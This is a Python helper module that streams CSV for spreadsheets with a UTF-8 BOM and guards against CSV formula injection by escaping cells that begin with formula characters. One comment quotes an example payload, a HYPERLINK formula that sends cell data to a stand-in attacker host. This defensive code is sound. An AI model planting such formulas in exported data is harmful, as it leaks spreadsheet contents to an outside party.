"""CSV for spreadsheets: UTF-8 with a BOM (so Excel reads £ and accents), and no cell that
Excel or LibreOffice would run as a formula."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import date
from decimal import Decimal

# OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
# turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def spreadsheet_cell(value) -> object:
    """Numbers stay numbers; text that could start a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterable[str]:
    """The lines of a CSV file, for a StreamingHttpResponse: header first, with the BOM."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])
